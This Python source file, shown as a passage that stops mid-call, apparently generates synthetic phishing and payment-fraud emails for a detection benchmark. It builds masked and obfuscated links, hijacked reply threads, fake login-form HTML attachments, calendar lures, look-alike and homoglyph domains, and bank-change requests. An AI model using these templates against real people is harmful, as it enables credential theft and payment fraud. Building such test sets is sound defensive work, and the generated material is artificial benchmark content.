"""blind3's families: each builder injects its attacks into a Box (gen.py).

Every attack is drawn from the history before its Date; every shape is one
a 2025-2026 attacker uses: alternatives whose HTML and text differ, base64
and quoted-printable bodies, windows-1252 and encoded-word headers,
redirectors and shorteners, calendar invitations, HTML attachments,
upper-case and percent-encoded hosts, the correspondent's real name, replies
quoting the real thread.
"""
import encodings.punycode
import time
import urllib.parse

import corpus
import mime
from corpus import DAY
from mime import Part

MAILBOXES = ["beck-s", "farmer-d", "kaminski-v", "lokay-m", "williams-w3"]
# The new-tenant family's familiar platform, one per mailbox: tenants are
# the first label left of the platform's suffix.
TENANT_PLATFORMS = {"beck-s": "sharefile.com", "farmer-d": "egnyte.com",
                    "kaminski-v": "sharepoint.com", "lokay-m": "ent.box.com",
                    "williams-w3": "onehub.com"}


def spaced(times, n, rng):
    """n of `times`, drawn from n equal slices of them, in order."""
    if not times:
        return []
    out = []
    for i in range(n):
        lo = len(times) * i // n
        hi = max(lo + 1, len(times) * (i + 1) // n)
        out.append(times[min(rng.randrange(lo, hi), len(times) - 1)])
    return out


def known_slots(box, family, n, lo=0.3, hi=0.97):
    """n (time, correspondent) pairs: established at that time, varied."""
    rng = box.rng(family + "/slots")
    times = box.window(lo, hi, lambda t: bool(box.h.correspondents(t)))
    if not times:
        times = box.window(0.0, 1.0, lambda t: bool(box.h.correspondents(t)))
    slots = []
    used = {}
    for t in spaced(times, n, rng):
        cands = box.h.correspondents(t)
        least = min(used.get(c, 0) for c in cands)
        c = rng.choice([c for c in cands if used.get(c, 0) == least])
        used[c] = used.get(c, 0) + 1
        slots.append((t + rng.randrange(600, 6 * 3600), c))
    return slots


WORDS_A = ["secure", "docs", "portal", "view", "share", "file", "cloud", "sign", "remit",
           "invoice", "vault", "access", "review", "client", "account", "doc"]
WORDS_B = ["hub", "center", "online", "link", "desk", "point", "space", "box", "zone",
           "gate", "net", "base", "now", "flow"]
TLDS = ["com", "net", "co", "io", "online", "site", "info", "app", "biz", "us"]
FIRST = ["Karen", "Daniel", "Priya", "Marcus", "Elena", "Tom", "Grace", "Victor", "Nadia",
         "Oliver", "Sandra", "Raj", "Helen", "Jorge", "Amy", "Stefan"]
LAST = ["Whitfield", "Moreno", "Castellan", "Okafor", "Lindqvist", "Brennan", "Haddad",
        "Novak", "Pryce", "Takeda", "Villaneuve", "Ashworth", "Kowalczyk", "Dunmore"]
FIRMS = ["Northgate Advisory", "Harlow Capital Partners", "Bluecrest Energy Services",
         "Meridian Procurement Group", "Sable Ridge Consulting", "Tamarack Analytics",
         "Corvus Strategy", "Ironwood Tendering", "Pellucid Risk", "Westmarch Ventures"]


def org_label(address):
    """The name an organisation registered: acme for j@mail.acme.co.uk."""
    return corpus.registrable(address.split("@")[1]).split(".")[0]


def tok(rng, n, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def attacker_domain(rng, box):
    while True:
        d = "%s%s%s.%s" % (rng.choice(WORDS_A), rng.choice(["", "-"]), rng.choice(WORDS_B),
                           rng.choice(TLDS))
        d = d if rng.random() < 0.5 else d.replace(".", "%d." % rng.randrange(2, 99), 1)
        if d not in box.h.domains:
            return d


def shape_of(box, shapes, i):
    return shapes[(corpus_index(box) * 3 + i) % len(shapes)]


def corpus_index(box):
    """The mailbox's place among the five, so that each starts its shapes at
    a different one."""
    return MAILBOXES.index(box.name) if box.name in MAILBOXES else 0


def boundary(rng):
    return "----=_NextPart_%s_%s" % (tok(rng, 8, "0123456789ABCDEF"), tok(rng, 8, "0123456789ABCDEF"))


def html_page(paragraphs):
    body = "".join("<p>%s</p>\n" % p for p in paragraphs)
    return ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '</head>\n<body style="font-family:Calibri,Arial,sans-serif;font-size:11pt">\n%s'
            '</body></html>\n' % body)


def first_name(name):
    parts = name.replace(",", " ").split()
    if "," in name and len(parts) >= 2:
        return parts[1].title()
    return parts[0].title() if parts else "there"


def owner_first(box):
    return box.owner.split("@")[0].split(".")[0].title()


def display(box, address):
    name = box.h.names.get(address, "")
    if name:
        return name
    local = address.split("@")[0]
    return " ".join(p.title() for p in local.replace("_", ".").split(".") if p.isalpha())


def quote_block(box, m, style, limit=14):
    """The real message m quoted as a mail client quotes it."""
    lines = [l.rstrip() for l in m.body().splitlines()]
    lines = [l for l in lines if l.strip()][:limit]
    who = display(box, m.sender) or m.sender
    if style == "outlook":
        head = ["", "-----Original Message-----", "From: %s" % who,
                "Sent: %s" % mime.rfc2822(m.date), "To: %s" % ", ".join(m.to[:3]),
                "Subject: %s" % m.subject, ""]
        return "\n".join(head + lines) + "\n"
    head = ["", "On %s, %s wrote:" % (mime.rfc2822(m.date), who)]
    return "\n".join(head + ["> " + l for l in lines]) + "\n"


def reply_subject(subject):
    return subject if subject.lower().startswith("re:") else "RE: " + subject


def headers_for(box, rng, when, sender_box, to, subject, subject_how="plain", cc=None,
                extra=()):
    h = [("Message-ID", box.message_id(rng, sender_box.split("@")[-1].rstrip(">"))),
         ("Date", mime.rfc2822(when)), ("From", sender_box), ("To", to)]
    if cc:
        h.append(("Cc", cc))
    h.append(("Subject", mime.header_text(subject, subject_how)))
    h.extend(extra)
    return h


def emit(box, kind, family, shape, when, sender, headers, body, **more):
    text = mime.message(headers, body)
    mid = headers[0][1]
    record = {"kind": kind, "family": family, "shape": shape, "message_id": mid.strip("<>"),
              "date": when, "sender": sender}
    record.update(more)
    box.add(when, sender, text, record)


def alt(rng, text, html, charset="utf-8", text_cte="quoted-printable",
        html_cte="quoted-printable"):
    return Part("multipart/alternative", boundary=boundary(rng), parts=[
        Part("text/plain", text, charset, text_cte), Part("text/html", html, charset, html_cte)])


def mixed(rng, parts):
    return Part("multipart/mixed", boundary=boundary(rng), parts=parts)


def attachment(ctype, filename, text):
    return Part(ctype, data=text.encode("utf-8"),
                headers=['Content-Disposition: attachment; filename="%s"' % filename])


def html_attachment(url, title):
    return ("<html><head><title>%s</title>\n<script>setTimeout(function(){"
            "window.location.href='%s'},1200)</script></head>\n<body><p>Loading secure "
            "document viewer&hellip;</p><form action=\"%s\" method=\"post\">"
            "<input type=\"email\" name=\"login\" placeholder=\"Email\"><input type=\"password\" "
            "name=\"pw\" placeholder=\"Password\"><button>Open document</button></form>"
            "</body></html>\n" % (title, url, url))


def calendar(rng, when, organiser, attendee, summary, description, url):
    def stamp(t):
        return time.strftime("%Y%m%dT%H%M%SZ", time.gmtime(t))

    desc = (description + "\\n\\n" + url).replace(",", "\\,")
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN",
             "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT",
             "ORGANIZER;CN=%s:mailto:%s" % (organiser[0], organiser[1]),
             "ATTENDEE;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:%s" % attendee,
             "DTSTART:%s" % stamp(when + 2 * DAY), "DTEND:%s" % stamp(when + 2 * DAY + 1800),
             "DTSTAMP:%s" % stamp(when), "UID:%s" % tok(rng, 24, "0123456789abcdef"),
             "SUMMARY:%s" % summary, "DESCRIPTION:%s" % desc, "LOCATION:%s" % url,
             "END:VEVENT", "END:VCALENDAR"]
    return "\r\n".join(lines) + "\r\n"


def calendar_body(rng, when, organiser, attendee, summary, description, url, text):
    ics = calendar(rng, when, organiser, attendee, summary, description, url)
    inner = Part("multipart/alternative", boundary=boundary(rng), parts=[
        Part("text/plain", text, "utf-8", "quoted-printable"),
        Part('text/calendar; method=REQUEST', ics.replace("\r\n", "\n"), "utf-8", "7bit")])
    return mixed(rng, [inner, attachment("application/ics", "invite.ics", ics)])


# Links -------------------------------------------------------------------

def pct_host(host, rng):
    """Some letters of host percent-encoded, as a browser still resolves."""
    out = []
    for i, c in enumerate(host):
        out.append("%%%02x" % ord(c) if c.isalpha() and i % 3 == 1 else c)
    return "".join(out)


def upper_host(url):
    """The URL with its host in capitals, as a browser still resolves it."""
    host = url.split("/")[2]
    return url.replace(host, host.upper())


def masked_link(rng, box, c, shape):
    """(href, shown) for the masked-link family."""
    reg = corpus.registrable(c.split("@")[1])
    shown = "https://%s.%s/%s" % (rng.choice(["www", "portal", "secure", "billing"]), reg,
                                  rng.choice(["statements", "remittance", "account/invoices",
                                              "documents"]))
    target = "https://%s.%s/%s/%s" % (rng.choice(["view", "docs", "auth", "login"]),
                                      attacker_domain(rng, box), tok(rng, 6), tok(rng, 10))
    if shape == "redirector":
        href = "https://click.%s/ls/click?upn=%s&u=%s" % (
            reg, tok(rng, 18), urllib.parse.quote(target, safe=""))
    elif shape == "shortener":
        href = "https://%s/%s" % (rng.choice(["bit.ly", "tinyurl.com", "t.ly", "rb.gy"]),
                                  tok(rng, 7, "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"))
    elif shape == "upper-host":
        host = target.split("/")[2]
        href = target.replace("https://" + host, "HTTPS://" + host.upper())
    elif shape == "pct-host":
        host = target.split("/")[2]
        href = target.replace(host, pct_host(host, rng))
    else:
        href = target
    return href, shown


def masked(box, n):
    shapes = ["alt-differ", "redirector", "shortener", "upper-host", "pct-host", "b64-1252"]
    rng = box.rng("masked-link")
    for i, (when, c) in enumerate(known_slots(box, "masked-link", n)):
        shape = shape_of(box, shapes, i)
        href, shown = masked_link(rng, box, c, shape)
        name = display(box, c)
        subj = rng.choice(["Updated statement for %s", "Remittance advice - %s",
                           "Invoice copies you asked for (%s)", "%s reconciliation"]) % (
            rng.choice(["March", "April", "Q2", "this month"]))
        greet = "Hi %s," % owner_first(box)
        lines = [greet, "As discussed, the updated statement and the remittance detail are on "
                 "our portal now. Please review before Friday's cutoff so we can release "
                 "payment.", "Thanks,", name]
        html = html_page(lines[:2] + ['<a href="%s">%s</a>' % (href, shown)] + lines[2:])
        text = "\n\n".join(lines[:2] + [shown] + lines[2:]) + "\n"
        if shape == "b64-1252":
            body = Part("text/html", html.replace("utf-8", "windows-1252").replace(
                "before", "before \u2013"), "windows-1252", "base64")
        elif shape in ("alt-differ", "redirector", "pct-host"):
            body = alt(rng, text, html)
        else:
            body = alt(rng, text, html, "utf-8", "7bit", "base64")
        hdr = headers_for(box, rng, when, mime.mailbox(name, c, "utf-8/Q" if i % 2 else "plain"),
                          box.owner, subj)
        emit(box, "attack", "masked-link", shape, when, c, hdr, body)


def recent_thread(box, rng, c, when, outsider=False):
    """A real message of c's thread with the mailbox before `when`, preferring
    the last few."""
    ms = box.h.threads(c, when - 400 * DAY, when)
    ms = [m for m in ms if not m.subject.lower().startswith("fw")] or ms
    if not ms:
        return None
    return rng.choice(ms[-5:])


NEW_HOSTS = ["%s.webflow.io", "%s.framer.app", "%s.surge.sh", "%s.glitch.me",
             "%s.netlify.app", "%s.vercel.app", "%s.weebly.com", "%s.wixsite.com/share"]


def hijack_participant(box, n):
    shapes = ["outlook-qp", "alt-text-silent", "html-attachment", "ew-subject-b64"]
    rng = box.rng("hijack-participant")
    for i, (when, c) in enumerate(known_slots(box, "hijack-participant", n)):
        m = recent_thread(box, rng, c, when)
        if m is None:
            continue
        when = max(when, m.date + rng.randrange(2 * 3600, 3 * DAY))
        shape = shape_of(box, shapes, i)
        name = display(box, c)
        url = "https://%s/%s" % (rng.choice(NEW_HOSTS) % (tok(rng, 4) + "-" + rng.choice(
            ["files", "share", "docs", "review"])), tok(rng, 8))
        ask = rng.choice(["Following up on this - the revised figures are in the file below, "
                          "sign in with your company email to open it.",
                          "Please see the updated version here before we finalise; it needs "
                          "your login to view.",
                          "Our IT moved the shared folder. The current draft is at the link, "
                          "please confirm you can access it today."])
        quoted = quote_block(box, m, "outlook" if i % 2 == 0 else "gmail")
        subj = reply_subject(m.subject)
        extra = [("In-Reply-To", "<%s>" % m.message_id.strip("<>")),
                 ("References", "<%s>" % m.message_id.strip("<>"))]
        if shape == "outlook-qp":
            body = Part("text/plain", "%s\n\n%s\n\n%s\n%s" % (ask, url, name, quoted), "utf-8",
                        "quoted-printable")
        elif shape == "alt-text-silent":
            text = "%s\n\n%s\n%s" % (ask.split(" - ")[0], name, quoted)
            html = html_page([ask, '<a href="%s">Open the revised file</a>' % url, name,
                              "<blockquote>%s</blockquote>" % quoted.replace("\n", "<br>")])
            body = alt(rng, text, html)
        elif shape == "html-attachment":
            text = "Revised version attached, please open in your browser.\n\n%s\n%s" % (
                name, quoted)
            body = mixed(rng, [Part("text/plain", text, "us-ascii", "7bit"),
                               attachment("text/html", "Revised_%s.html" % tok(rng, 5),
                                          html_attachment(url, m.subject))])
        else:
            body = Part("text/plain", "%s\n\n%s\n\n%s\n%s" % (ask, url, name, quoted), "utf-8",
                        "base64")
        hdr = headers_for(box, rng, when, mime.mailbox(name, c), box.owner, subj,
                          "utf-8/B" if shape == "ew-subject-b64" else "plain", extra=extra)
        emit(box, "attack", "hijack-participant", shape, when, c, hdr, body)


def hijack_outsider(box, n):
    shapes = ["webmail-same-name", "new-firm-takeover", "webmail-html-attachment",
              "new-firm-alt"]
    rng = box.rng("hijack-outsider")
    h = box.h
    # Threads with an outside party who wrote in more than once.
    partners = [a for a, d in h.inbound.items() if len(d) >= 2
                and a.split("@")[1] not in corpus.FREEMAIL]
    n_mail = len(h.mails)
    candidates = [m for m in h.mails[int(0.25 * n_mail):int(0.97 * n_mail)]
                  if m.subject and m.message_id and (m.sender in partners)]
    if not candidates:
        return
    picks = spaced(candidates, n, rng)
    for i, m in enumerate(picks):
        when = m.date + rng.randrange(6 * 3600, 4 * DAY)
        shape = shape_of(box, shapes, i)
        real = display(box, m.sender) or "Accounts"
        if shape.startswith("webmail"):
            local = real.lower().replace(" ", ".").replace(",", "")
            local = "".join(ch for ch in local if ch.isalnum() or ch == ".") or "accounts"
            sender = "%s.%s@%s" % (local, m.sender.split("@")[1].split(".")[0],
                                   rng.choice(["outlook.com", "gmail.com", "proton.me"]))
            name = real
            intro = "Writing from my personal address, our mail server is down today."
        else:
            firm = rng.choice(FIRMS)
            dom = "".join(w.lower() for w in firm.split()[:2]) + ".com"
            name = "%s %s" % (rng.choice(FIRST), rng.choice(LAST))
            sender = "%s.%s@%s" % (name.split()[0].lower(), name.split()[1].lower(), dom)
            intro = ("I have taken over this file from %s at %s (%s), who is out on leave."
                     % (real, m.sender.split("@")[1], firm))
        url = "https://%s/%s/%s" % (attacker_domain(rng, box), tok(rng, 5), tok(rng, 12))
        ask = ("%s The signed copy and the updated payment schedule are here: %s - "
               "access needs your Enron credentials." % (intro, url))
        quoted = quote_block(box, m, "gmail" if i % 2 else "outlook")
        extra = [("In-Reply-To", "<%s>" % m.message_id.strip("<>")),
                 ("References", "<%s>" % m.message_id.strip("<>"))]
        if shape == "webmail-html-attachment":
            body = mixed(rng, [Part("text/plain", "%s The document is attached.\n\n%s\n%s" % (
                intro, name, quoted), "utf-8", "quoted-printable"),
                attachment("text/html", "Signed_Copy.htm", html_attachment(url, m.subject))])
        elif shape == "new-firm-alt":
            html = html_page([intro, '<a href="%s">Payment schedule (PDF)</a>' % url, name,
                              "<blockquote>%s</blockquote>" % quoted.replace("\n", "<br>")])
            body = alt(rng, "%s\n\n%s\n%s" % (intro, name, quoted), html)
        else:
            body = Part("text/plain", "%s\n\n%s\n%s" % (ask, name, quoted), "windows-1252",
                        "quoted-printable")
        hdr = headers_for(box, rng, when, mime.mailbox(name, sender), box.owner,
                          reply_subject(m.subject), extra=extra)
        emit(box, "attack", "hijack-outsider", shape, when, sender, hdr, body)


BCC_PLATFORMS = ["https://docsend.com/view/%s", "https://%s.typeform.com/to/Rfp2026",
                 "https://forms.gle/%s", "https://www.canva.com/design/%s/view",
                 "https://%s.notion.site/Proposal", "https://sites.google.com/view/%s"]


def bcc_new_sender(box, n):
    shapes = ["calendar-invite", "html-attachment", "alt-differ", "b64-1252-ew"]
    rng = box.rng("bcc-new-sender")
    times = [m.date for m in box.h.mails[int(0.2 * len(box.h.mails)):]]
    for i, t in enumerate(spaced(times, n, rng)):
        when = t + rng.randrange(600, 5 * 3600)
        shape = shape_of(box, shapes, i)
        firm = rng.choice(FIRMS)
        name = "%s %s" % (rng.choice(FIRST), rng.choice(LAST))
        dom = "%s-%s.%s" % (firm.split()[0].lower(), firm.split()[1].lower(),
                            rng.choice(["com", "co", "net", "group"]))
        sender = "%s@%s" % (name.split()[0].lower(), dom)
        url = rng.choice(BCC_PLATFORMS) % tok(rng, 10)
        subject = rng.choice(["Proposal Document for your review", "RFP 2026 - shortlisted "
                              "vendors", "Confidential: revised term sheet",
                              "Partnership proposal \u2013 %s" % firm])
        text = ("Good afternoon,\n\n%s has shared a proposal document with you for review. "
                "Please open it with your work email before the deadline.\n\n%%s\n\n"
                "Kind regards,\n%s\n%s" % (firm, name, firm))
        to = rng.choice(["undisclosed-recipients:;", mime.mailbox(name, sender)])
        extra = [("Delivered-To", box.owner)]
        if shape == "calendar-invite":
            body = calendar_body(rng, when, (name, sender), box.owner, "Proposal review - %s"
                                 % firm, "Review the proposal before the call", url,
                                 text % "The proposal and dial-in are in the invitation.")
            subject = "Invitation: Proposal review @ %s" % mime.rfc2822(when + 2 * DAY)[:16]
        elif shape == "html-attachment":
            body = mixed(rng, [Part("text/plain", text % "The document is attached.", "utf-8",
                                    "quoted-printable"),
                               attachment("text/html", "Proposal_%s.html" % tok(rng, 4),
                                          html_attachment(url, subject))])
        elif shape == "alt-differ":
            html = html_page(["Good afternoon,", "%s has shared a proposal document with you."
                              % firm, '<a href="%s" style="background:#0a66c2;color:#fff;'
                              'padding:8px 16px">REVIEW DOCUMENT</a>' % url, name])
            body = alt(rng, text % "(see the HTML version of this message)", html)
        else:
            body = Part("text/html", html_page((text % ('<a href="%s">%s</a>' % (url, url)))
                                               .split("\n\n")), "windows-1252", "base64")
        how = "utf-8/B" if shape == "b64-1252-ew" or "\u2013" in subject else "plain"
        hdr = headers_for(box, rng, when, mime.mailbox(name, sender, how), to, subject, how,
                          extra=extra)
        emit(box, "attack", "bcc-new-sender", shape, when, sender, hdr, body)


VENDOR_PLATFORMS = [
    ("webflow.io", "https://%s-statements.webflow.io/"),
    ("framer.app", "https://%s-docs.framer.app/"),
    ("surge.sh", "https://%s-remit.surge.sh/"),
    ("mypinata.cloud", "https://%s.mypinata.cloud/ipfs/bafybeih%s"),
    ("docsend.com", "https://docsend.com/view/%s%s"),
    ("typeform.com", "https://%s.typeform.com/to/%s"),
    ("google forms", "https://docs.google.com/forms/d/e/1FAIpQL%s%s/viewform"),
    ("sharepoint.com", "https://%s-my.sharepoint.com/:b:/g/personal/ap_%s/EaB3xQ"),
    ("1drv.ms", "https://1drv.ms/b/s!%s%s"),
    ("notion.site", "https://%s.notion.site/Invoice-%s"),
    ("dropbox.com", "https://www.dropbox.com/scl/fi/%s/Statement.pdf?rlkey=%s"),
    ("canva.com", "https://www.canva.com/design/%s%s/view"),
]


def vendor_new_platform(box, n):
    shapes = ["plain", "alt-differ", "qp-1252", "b64-html"]
    rng = box.rng("vendor-new-platform")
    familiar = TENANT_PLATFORMS[box.name]
    plats = [p for p in VENDOR_PLATFORMS if not p[0].endswith(familiar)]
    for i, (when, c) in enumerate(known_slots(box, "vendor-new-platform", n)):
        shape = shape_of(box, shapes, i)
        label, pattern = plats[(corpus_index(box) * 5 + i) % len(plats)]
        org = org_label(c)
        url = pattern % ((org if "%s-" in pattern or "%s." in pattern else tok(rng, 6)),
                         tok(rng, 10)) if pattern.count("%s") == 2 else pattern % org
        name = display(box, c)
        subj = rng.choice(["New Approved Statement From %s", "%s - documents for signature",
                           "Shared file: %s remittance", "%s invoice pack"]) % org.upper()
        text = ("Hello %s,\n\nWe have moved our document sharing to a new service. The "
                "approved statement is available here:\n\n%s\n\nYou may be asked to confirm "
                "your email address to view it.\n\nBest regards,\n%s\n" % (
                    owner_first(box), url, name))
        if shape == "alt-differ":
            html = html_page(["Hello %s," % owner_first(box), "The approved statement is "
                              "ready for you.", '<a href="%s">View Statement</a>' % url, name])
            body = alt(rng, text.replace(url, "[View Statement]"), html)
        elif shape == "qp-1252":
            body = Part("text/plain", text.replace("statement", "statement \u2013 signed"),
                        "windows-1252", "quoted-printable")
        elif shape == "b64-html":
            body = Part("text/html", html_page(text.replace(url, '<a href="%s">%s</a>' % (
                url, url)).split("\n\n")), "utf-8", "base64")
        else:
            body = Part("text/plain", text, "us-ascii", "7bit")
        hdr = headers_for(box, rng, when, mime.mailbox(name, c), box.owner, subj)
        emit(box, "attack", "vendor-new-platform", shape, when, c, hdr, body, platform=label)


def tenant_url(platform, tenant, rng):
    if platform == "sharepoint.com":
        return "https://%s.sharepoint.com/:f:/s/Finance/E%s" % (tenant, tok(rng, 12))
    if platform == "ent.box.com":
        return "https://%s.ent.box.com/s/%s" % (tenant, tok(rng, 16))
    if platform == "sharefile.com":
        return "https://%s.sharefile.com/d-s%s" % (tenant, tok(rng, 12))
    return "https://%s.%s/fl/%s" % (tenant, platform, tok(rng, 10))


def new_tenant(box, n):
    """Legitimate setup first (established correspondents linking their own
    tenants on the mailbox's platform), then known senders linking a tenant
    never seen."""
    shapes = ["plain", "alt-differ", "b64-html", "upper-host"]
    rng = box.rng("new-tenant")
    platform = TENANT_PLATFORMS[box.name]
    slots = known_slots(box, "new-tenant", n)
    if not slots:
        return
    first = min(t for t, _ in slots)
    setup_times = box.window(0, 1, lambda t: first - 70 * DAY <= t < first - DAY
                             and bool(box.h.correspondents(t)))
    used = []
    for k, t in enumerate(spaced(setup_times, 6, rng)):
        cands = [c for c in box.h.correspondents(t) if c not in used] or box.h.correspondents(t)
        c = cands[0] if k % 2 == 0 or not used else used[-1]
        if c not in used:
            used.append(c)
        when = t + rng.randrange(600, 4 * 3600)
        tenant = org_label(c)
        url = tenant_url(platform, tenant, rng)
        name = display(box, c)
        text = ("%s,\n\nI've put the files for this month in our shared folder:\n%s\n\n"
                "Let me know if anything is missing.\n\n%s\n" % (owner_first(box), url, name))
        hdr = headers_for(box, rng, when, mime.mailbox(name, c), box.owner,
                          rng.choice(["Files for this month", "Shared folder", "Data for review"]))
        emit(box, "setup", "new-tenant setup", "plain", when, c, hdr,
             Part("text/plain", text, "us-ascii", "7bit"), platform=platform)
    for i, (when, c) in enumerate(slots):
        shape = shape_of(box, shapes, i)
        tenant = rng.choice(["docs", "secure", "files", "share", "ap"]) + tok(rng, 4)
        url = tenant_url(platform, tenant, rng)
        if shape == "upper-host":
            url = upper_host(url)
        name = display(box, c)
        text = ("%s,\n\nThe signed agreement and the invoice are in the folder below. Sign in "
                "to open them:\n%s\n\nRegards,\n%s\n" % (owner_first(box), url, name))
        if shape == "alt-differ":
            body = alt(rng, text.replace(url, "(link below)"), html_page(
                ["%s," % owner_first(box), "The signed agreement is in the folder:",
                 '<a href="%s">Open folder</a>' % url, name]))
        elif shape == "b64-html":
            body = Part("text/html", html_page(text.replace(url, '<a href="%s">Open</a>' % url)
                                               .split("\n\n")), "utf-8", "base64")
        else:
            body = Part("text/plain", text, "us-ascii", "7bit")
        hdr = headers_for(box, rng, when, mime.mailbox(name, c), box.owner,
                          rng.choice(["Signed agreement", "Invoice and agreement", "Documents"]))
        emit(box, "attack", "new-tenant", shape, when, c, hdr, body, platform=platform)


CONFUSABLE = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "c": "\u0441", "p": "\u0440"}


METHODS = ["tld", "added-label", "transposition", "digit", "doubled", "omission", "rn-for-m",
           "idn"]


def lookalike_candidates(reg, method):
    """Registrable twins of `reg` by one method (none when it does not apply)."""
    label, _, suffix = reg.partition(".")
    if suffix == "edu":  # nobody registers a .edu: the attacker's twin is a .org
        suffix = "org"
    if method == "tld":
        if reg.endswith(".edu"):
            return [label + "-univ.org", label + "edu.org", label + "-edu.com"]
        return [label + "." + t for t in ("net", "co", "us", "org", "biz") if t != suffix]
    if method == "added-label":
        return ["%s-%s.%s" % (label, w, suffix)
                for w in ("billing", "ap", "payments", "invoices", "remit")]
    if method == "transposition":
        return ["%s%s%s%s.%s" % (label[:j], label[j + 1], label[j], label[j + 2:], suffix)
                for j in range(1, len(label) - 2) if label[j] != label[j + 1]]
    if method == "digit":
        return [label.replace(a, b, 1) + "." + suffix for a, b in
                (("o", "0"), ("l", "1"), ("i", "1"), ("e", "3"), ("s", "5"), ("a", "4"))
                if a in label]
    if method == "doubled":
        return ["%s%s%s.%s" % (label[:j], label[j], label[j:], suffix)
                for j in range(1, len(label)) if label[j] not in "aeiou"]
    if method == "omission":
        return ["%s%s.%s" % (label[:j], label[j + 1:], suffix)
                for j in range(1, len(label) - 1)] if len(label) >= 5 else []
    if method == "rn-for-m":
        return [label.replace(a, b, 1) + "." + suffix
                for a, b in (("m", "rn"), ("w", "vv"), ("d", "cl")) if a in label]
    if method == "idn":
        return ["xn--" + encodings.punycode.punycode_encode(label.replace(a, b, 1)).decode() +
                "." + suffix for a, b in CONFUSABLE.items() if a in label]
    raise ValueError(method)


def lookalike_domain(domain, method, rng, known):
    """(twin, method): a new registrable twin of `domain` by `method`, else by
    the next method that gives one; the subdomain the correspondent wrote
    from is kept (mail.acme.com -> mail.acrne.com)."""
    reg = corpus.registrable(domain)
    start = METHODS.index(method)
    for used in METHODS[start:] + METHODS[:start]:
        tries = [t for t in lookalike_candidates(reg, used)
                 if t not in known and corpus.registrable(t) not in known and t != reg]
        if tries:
            sub = domain[:-len(reg)] if domain.endswith(reg) and domain != reg else ""
            return sub + rng.choice(tries), used
    raise ValueError("no look-alike of " + domain)


def registrable_lookalike(box, n):
    shapes = ["payment-change-1252", "invoice-link-alt", "thread-reply", "ew-name-b64"]
    rng = box.rng("registrable-lookalike")
    for i, (when, c) in enumerate(known_slots(box, "registrable-lookalike", n)):
        method = METHODS[(corpus_index(box) * 5 + i) % len(METHODS)]
        shape = shape_of(box, shapes, i)
        local, dom = c.split("@")
        fake, method = lookalike_domain(dom, method, rng, box.h.domains)
        sender = "%s@%s" % (local, fake)
        name = display(box, c)
        lines = ["Hi %s," % owner_first(box),
                 "Please note our remittance details have changed following our bank "
                 "migration. Kindly update your vendor file and direct the next payment to the "
                 "new account: Routing 0%d%d, Account %d." % (rng.randrange(1000, 9999),
                                                               rng.randrange(10000, 99999),
                                                               rng.randrange(10**8, 10**9)),
                 "Thanks for your help,", name]
        extra = []
        subj = rng.choice(["Updated remittance details", "Change of bank account",
                           "Invoice %d" % rng.randrange(10000, 99999)])
        if shape == "invoice-link-alt":
            url = "https://portal.%s/invoice/%s" % (fake, tok(rng, 8))
            body = alt(rng, "\n\n".join(lines[:1] + ["The invoice is on our portal: " + url]
                                       + lines[2:]),
                       html_page(lines[:1] + ['The invoice is on our <a href="%s">portal</a>.'
                                              % url] + lines[2:]))
        elif shape == "thread-reply":
            m = recent_thread(box, rng, c, when)
            body_text = "\n\n".join(lines) + "\n"
            if m is not None:
                when = max(when, m.date + rng.randrange(3600, 2 * DAY))
                body_text += quote_block(box, m, "outlook")
                subj = reply_subject(m.subject)
                extra = [("In-Reply-To", "<%s>" % m.message_id.strip("<>")),
                         ("References", "<%s>" % m.message_id.strip("<>"))]
            body = Part("text/plain", body_text, "us-ascii", "7bit")
        elif shape == "ew-name-b64":
            body = Part("text/plain", "\n\n".join(lines) + "\n", "utf-8", "base64")
        else:
            body = Part("text/plain", "\n\n".join(lines).replace("Thanks", "Thanks \u2013") +
                        "\n", "windows-1252", "quoted-printable")
        how = "windows-1252/Q" if shape == "ew-name-b64" else "plain"
        hdr = headers_for(box, rng, when, mime.mailbox(name, sender, how), box.owner, subj,
                          extra=extra)
        emit(box, "attack", "registrable-lookalike", shape, when, sender, hdr, body,
             method=method, imitates=corpus.registrable(dom))


BRAND_TOKENS = ["rnicrosoft-office365-docs", "0ffice365-sharedfile", "d0cusign-envelope",
                "adobe-acr0bat-sign", "sharepolnt-online", "0nedrive-secure-view",
                "we11sfargo-remit", "paypa1-billing", "amaz0n-pay-invoice", "g00gle-drive-share",
                "dr0pbox-transfer", "out1ook-webaccess"]
CLOUDS = ["https://s3.amazonaws.com/%s/index.html",
          "https://%s.s3.us-west-2.amazonaws.com/view.html",
          "https://storage.googleapis.com/%s/doc.html",
          "https://firebasestorage.googleapis.com/v0/b/%s.appspot.com/o/share%%2Findex.html?alt=media",
          "https://%s.blob.core.windows.net/$web/index.html",
          "https://%s.web.app/",
          "https://objectstorage.us-ashburn-1.oraclecloud.com/n/%s/b/docs/o/index.html",
          "https://%s.nyc3.digitaloceanspaces.com/file.html"]


def cloud_token(box, n):
    shapes = ["plain", "alt-differ", "upper-host", "pct-token"]
    rng = box.rng("cloud-token")
    for i, (when, c) in enumerate(known_slots(box, "cloud-token", n)):
        shape = shape_of(box, shapes, i)
        cloud = CLOUDS[(corpus_index(box) * 3 + i) % len(CLOUDS)]
        if i % 2 == 0:
            token = BRAND_TOKENS[(corpus_index(box) * 4 + i) % len(BRAND_TOKENS)]
        else:
            org = org_label(c)
            token = lookalike_domain(org + ".com", "digit", rng, set())[0].split(".")[0]
            token += "-remittance"
        token += "-%d" % rng.randrange(10, 999)
        url = cloud % token
        if shape == "upper-host":
            url = upper_host(url)
        elif shape == "pct-token" and "/%s" % token in url:
            url = url.replace("/" + token, "/" + token.replace("-", "%2D"), 1)
        name = display(box, c)
        text = ("Hi %s,\n\nSharing the signed documents from our side - download them here:\n"
                "%s\n\nThe link expires in 48 hours.\n\n%s\n" % (owner_first(box), url, name))
        if shape == "alt-differ":
            body = alt(rng, text.replace(url, "[Download documents]"), html_page(
                ["Hi %s," % owner_first(box), "Sharing the signed documents from our side.",
                 '<a href="%s">Download documents</a>' % url, name]))
        else:
            body = Part("text/plain", text, "utf-8", "quoted-printable")
        hdr = headers_for(box, rng, when, mime.mailbox(name, c), box.owner,
                          rng.choice(["Signed documents", "Documents for countersignature",
